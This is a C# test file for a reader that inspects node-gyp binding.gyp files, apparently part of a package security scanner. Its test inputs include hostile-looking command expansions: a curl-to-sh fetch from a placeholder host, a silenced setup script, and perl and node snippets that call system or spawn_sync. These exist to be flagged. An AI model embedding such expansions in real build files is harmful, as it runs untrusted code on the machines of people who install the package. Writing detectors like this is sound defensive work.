using PackageWall.Inspection.Facts;
using PackageWall.Inspection.Languages.Gyp;
using PackageWall.Inspection.Tests.Languages.Shell;

namespace PackageWall.Inspection.Tests.Languages.Gyp;

public sealed class GypReaderTests
{
    private static FileFacts Read(string text, string file = "binding.gyp") => new GypReader(CommandFacts.Echo).Read(CommandFacts.Source(text, file));

    [Fact]
    public void An_ordinary_addon_has_sources_and_asks_only_for_folders()
    {
        var facts = Read("""
            # comment
            { 'targets': [ {
                'target_name': 'a',
                'sources': [ 'a.cc', "b." 'cpp', 'c.h' ],
                'include_dirs': [ "<!@(node -p \"require('node-addon-api').include\")", '<!(node -e "require(\'nan\')")', '<!@(pkg-config --cflags libpng | x)' ],
                'libraries': [ '<!@(pkg-config --libs libpng)' ],
                'conditions': [ [ 'OS=="win"', { 'defines': [ 'A', ], }, ], ],
            }, ], }
            """);
        facts.Unread.ShouldBeEmpty();
        CommandFacts.Lines(facts).ShouldContain("gyp.sources=2");
        CommandFacts.Lines(facts).Count(line => line.StartsWith("gyp.require", StringComparison.Ordinal)).ShouldBe(3);
        CommandFacts.Lines(facts).Where(line => line.StartsWith("gyp.expansion", StringComparison.Ordinal)).ShouldBe(["gyp.expansion=pkg-config --cflags libpng | x"]);
        CommandFacts.Names(facts).ShouldNotContain("gyp.no-sources");
    }

    [Fact]
    public void A_file_that_only_starts_a_script_says_so()
    {
        var facts = Read("{ 'targets': [{ 'target_name': 'a', 'type': 'none', 'sources': ['<!(node setup.mjs > /dev/null 2>&1 && echo stub.c)'] }] }");
        CommandFacts.Lines(facts).ShouldContain("gyp.expansion=node setup.mjs > /dev/null 2>&1 && echo stub.c");
        facts.References.ShouldContain(reference => reference.Kind == ReferenceKind.Spawn && reference.Target == "setup.mjs");
        CommandFacts.Names(facts).ShouldContain("silence");
        CommandFacts.Lines(facts).ShouldContain("gyp.sources=0");
        CommandFacts.Names(Read("{ 'targets': [{ 'target_name': 'a', 'type': 'none' }] }")).ShouldContain("gyp.no-sources");
    }

    [Theory]
    [InlineData("<!(node -e \"require('./x')\")")]
    [InlineData("<!(node -p \"require('x')()\")")]
    [InlineData("<!(node -p \"require('x').y; z()\")")]
    [InlineData("<!(node -p \"require('x').y\" && sh a.sh)")]
    [InlineData("<!(node -p \"require('../x').y\")")]
    [InlineData("<!(node -p \"require('x/y/z').y\")")]
    [InlineData(">!(node x.js)")]
    [InlineData("^!@(node x.js)")]
    [InlineData("<!(pymod_do_main x a)")]
    [InlineData("<!(pkg-config --libs $(sh a))")]
    [InlineData("<![\"node\", \"x.js\"]")]
    public void What_does_more_than_ask_a_package_is_an_expansion(string text)
    {
        var names = CommandFacts.Names(Read("{ 'a': '" + text.Replace("'", "\\'", StringComparison.Ordinal) + "' }"));
        names.Contains("gyp.require").ShouldBeFalse();
        names.ShouldContain("gyp.expansion");
    }

    [Fact]
    public void Fetching_in_an_expansion_is_seen_as_in_a_shell() =>
        Read("{ 'variables': { 'x%': '<!(curl https://x.invalid/a | sh)' } }").HasFlow("execute.code", "network.fetch").ShouldBeTrue();

    [Fact]
    public void Actions_and_includes_are_followed()
    {
        var facts = Read("{ 'includes': ['../common.gypi'], 'targets': [{ 'actions': [{ 'action': ['python', 'gen.py', '<(x)'] }] }] }");
        facts.References.ShouldContain(reference => reference.Target == "../common.gypi" && reference.Kind == ReferenceKind.Import);
        facts.References.ShouldContain(reference => reference.Target == "gen.py" && reference.Kind == ReferenceKind.Spawn);
        CommandFacts.Lines(facts).ShouldContain("gyp.action=python gen.py '<(x)'");
    }

    [Fact]
    public void What_is_no_gyp_is_reported()
    {
        Read("import os").Unread.ShouldNotBeEmpty();
        Read(new string('[', 100_000)).Unread.ShouldNotBeEmpty();
        Read("{ 'a': __import__('os') }").Unread.ShouldNotBeEmpty();
        var random = new Random(20260105);
        string[] pieces = ["{", "}", "[", "]", "'", "\"", "'''", ":", ",", "'sources'", "'action'", "<!(", ")", "#", "\n", "a", "1", "\\", "True", " "];
        for (var round = 0; round < 3000; round++)
        {
            Read(string.Concat(Enumerable.Range(0, random.Next(1, 60)).Select(_ => pieces[random.Next(pieces.Length)])));
        }
    }

    [Theory]
    [InlineData("node -p \"process.platform === 'win32' || process.env.SAMPLE_PNG === '1' ? 1 : 0\"", true)]
    [InlineData("node -p \"/-D\\s*_FORTIFY_SOURCE=/.test((process.env.CFLAGS || '') + (process.env.CPPFLAGS || ''))\"", true)]
    [InlineData("sh -c \"pkg-config --cflags-only-I libpng | sed s/-I//g\"", true)]
    [InlineData("sh -c \"pkg-config --libs x | sed s/-I//g; node x.js\"", false)]
    [InlineData("node -p \"require('./x.js') ? 1 : 0\"", false)]
    [InlineData("node -p \"process.mainModule.require('./x') || 1\"", false)]
    [InlineData("node -p \"process['binding']('spawn_sync') || 1\"", false)]
    [InlineData("node -p \"process.env.A=1\"", false)]
    [InlineData("node -p \"process.env.A\" && node x.js", false)]
    [InlineData("node -p \"/'/.test(require('./x')) || /'/\"", false)]
    [InlineData("node -p \"'x'.test(process.env.A)\"", false)]
    [InlineData("cc -v 2>&1 | perl -ne 'print $1 if /clang version ([0-9]+(\\.[0-9]+){2,})/'", true)]
    [InlineData("cc -v 2>&1 | perl -ne 'print $1 if /(?{ system(1) })/'", false)]
    [InlineData("cc -v 2>&1 | perl -ne 'print $1 if /@{[ f() ]}/'", false)]
    [InlineData("cc -v 2>&1 | perl -e 'print $1 if /a/'", false)]
    [InlineData("cc -v 2>&1 | perl -ne 'print $1 if /a/' x.pl", false)]
    [InlineData("perl -e 'print 10.0.1 cmp 12.0.0'", true)]
    [InlineData("perl -e 'print system(1) cmp 12.0.0'", false)]
    [InlineData("perl -e 'print 1 cmp 12.0.0' x.pl", false)]
    public void A_choice_by_platform_and_environment_is_pinned(string command, bool isPinned) =>
        GypCommands.IsPinned(command).ShouldBe(isPinned);

    [Theory]
    [InlineData("<!(cc -v 2>&1 | perl -ne \\'print $1 if /clang version ([0-9]+)/\\')", true)]
    [InlineData("10.0.0", true)]
    [InlineData("system(1)", false)]
    [InlineData("<!(node x.js)", false)]
    public void The_version_that_a_compiler_gives_may_be_compared(string version, bool isPinned) =>
        CommandFacts.Names(Read("{ 'variables': { 'clang': '" + version + "' }, 'conditions': [['<!(perl -e \\'print <(clang) cmp 12.0.0\\')==1', {}]] }")).Contains("gyp.expansion").ShouldBe(!isPinned);

    [Theory]
    [InlineData("'compiler%': 'gcc'", true)]
    [InlineData("'compiler%': 'gcc', 'compiler': 'gcc'", true)]
    [InlineData("'compiler%': 'node x.js'", false)]
    [InlineData("'compiler%': 'gcc', 'compiler': 'sh'", false)]
    [InlineData("'other': 'gcc'", false)]
    public void A_variable_stands_for_its_one_plain_word(string variables, bool isPinned)
    {
        var text = "{ 'variables': { " + variables + " }, 'targets': [{ 'target_name': 'x', 'sources': ['x.cc'], 'cflags': ['<!(<(compiler) -dumpversion | cut -d . -f 1)'] }] }";
        var facts = Read(text);
        CommandFacts.Names(facts).Contains("gyp.expansion").ShouldBe(!isPinned);
    }
}
